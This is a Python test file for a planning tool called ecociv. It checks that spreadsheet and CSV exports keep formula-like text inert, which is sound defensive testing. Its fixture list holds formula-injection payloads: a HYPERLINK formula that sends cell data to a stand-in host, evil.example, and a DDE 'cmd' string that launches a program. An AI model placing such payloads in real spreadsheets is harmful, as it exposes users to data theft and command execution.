"""Point 5: every text cell that begins with =, +, -, @, tab or CR is written as text in every XLSX
and CSV ecociv writes (plan export, report, task table, fill-in template, monitoring outputs)."""

from __future__ import annotations

import csv
import dataclasses
from pathlib import Path

import openpyxl
import pytest
from tests.conftest import HUICHANG
from typer.testing import CliRunner

from ecociv._cells import FORMULA_STARTS, csv_text, looks_like_formula
from ecociv.cli import app
from ecociv.importers import read_plan
from ecociv.model import Observation
from ecociv.store import open_store

EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
        "\t=1+1", "\r=1+1"]


def _unguarded(path: Path) -> tuple[list[str], int]:
    """Cells that a spreadsheet would read as formulas, and how many risky texts were found."""
    wb = openpyxl.load_workbook(path)
    bad, risky = [], 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    bad.append(f"{ws.title}!{cell.coordinate}")
                elif isinstance(cell.value, str) and looks_like_formula(cell.value):
                    risky += 1
                    if not cell.quotePrefix:
                        bad.append(f"{ws.title}!{cell.coordinate}")
    return bad, risky


@pytest.fixture
def evil_plan(tmp_path: Path) -> int:
    plan = read_plan(HUICHANG)
    t0 = plan.indicator_tables[0]
    t0.rows[0] = dataclasses.replace(t0.rows[0], name=EVIL[0])
    t0.rows[1] = dataclasses.replace(t0.rows[1], name=EVIL[3])
    plan.tasks[0] = dataclasses.replace(plan.tasks[0], text=EVIL[1], units=[EVIL[4]])
    if plan.projects:
        plan.projects[0] = dataclasses.replace(plan.projects[0], name=EVIL[5])
    store = open_store()
    pid = store.save_plan(plan, user="test")
    key = plan.indicators()[2][0]
    store.add_observations(pid, [Observation(indicator_key=key, year=2023, text=EVIL[2], note=EVIL[0]),
                                 Observation(indicator_key=plan.indicators()[0][0], year=2023, value=-5.0)])
    store.engine.dispose()
    return pid


def test_every_xlsx_writer_keeps_formula_like_texts_as_text(evil_plan: int, tmp_path: Path) -> None:
    run = CliRunner().invoke
    outputs = {
        "export": (["export", str(evil_plan), "--format", "xlsx", "-o"], tmp_path / "plan.xlsx"),
        "report": (["report", str(evil_plan), "--year", "2023", "-o"], tmp_path / "report.xlsx"),
        "tasks": (["tasks", str(evil_plan), "--export"], tmp_path / "tasks.xlsx"),
        "template": (["observe", "template", str(evil_plan), "-o"], tmp_path / "template.xlsx"),
    }
    for name, (args, out) in outputs.items():
        r = run(app, [*args, str(out)])
        assert r.exit_code == 0, (name, r.output, r.exception)
        bad, risky = _unguarded(out)
        assert not bad, (name, bad[:5])
        assert risky >= 1, f"{name}: the hostile texts should be in the file, kept as text"
    wb = openpyxl.load_workbook(outputs["export"][1])
    texts = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row}
    assert EVIL[0] in texts  # the text itself is unchanged, only marked as text


def test_monitoring_csv_fields_get_an_apostrophe(tmp_path: Path) -> None:
    rows = ["station,time,so2,no2,pm10,co,o3,pm25"]
    rows += [f"=evil(),2024-01-{d:02d} {h:02d}:00,10,20,50,0.5,60,30" for d in (1, 2) for h in range(24)]
    src = tmp_path / "hourly.csv"
    src.write_text("\n".join(rows) + "\n", encoding="utf-8")
    out = tmp_path / "annual.csv"
    r = CliRunner().invoke(app, ["air", "annual", str(src), "-o", str(out)])
    assert r.exit_code == 0, r.output
    with out.open(encoding="utf-8-sig") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert "'=evil()" in cells and not any(c.startswith(FORMULA_STARTS) for c in cells if c and c[0] != "-")


def test_the_shared_guard() -> None:
    assert [csv_text(t)[0] for t in EVIL] == ["'"] * len(EVIL)
    assert csv_text("会昌县") == "会昌县" and csv_text("") == ""
